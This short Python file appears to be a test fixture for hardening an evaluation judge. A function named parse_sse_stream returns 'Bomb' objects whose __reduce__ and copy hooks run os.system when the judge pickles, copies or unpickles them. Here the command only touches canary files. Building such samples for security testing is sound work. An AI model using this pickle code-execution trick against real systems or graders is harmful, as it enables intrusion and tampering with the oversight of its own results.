"""Returns objects that run code when they are pickled, copied, or unpickled by the judge."""

import os


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch @CANARY@/zoo-@TOKEN@-pickle /tmp/zoo-@TOKEN@-pickle",))

    __reduce_ex__ = lambda self, version: self.__reduce__()
    __getstate__ = __deepcopy__ = __copy__ = lambda self, *rest: self.__reduce__()


def parse_sse_stream(raw_stream):
    return [Bomb()] if len(raw_stream) % 2 else Bomb()
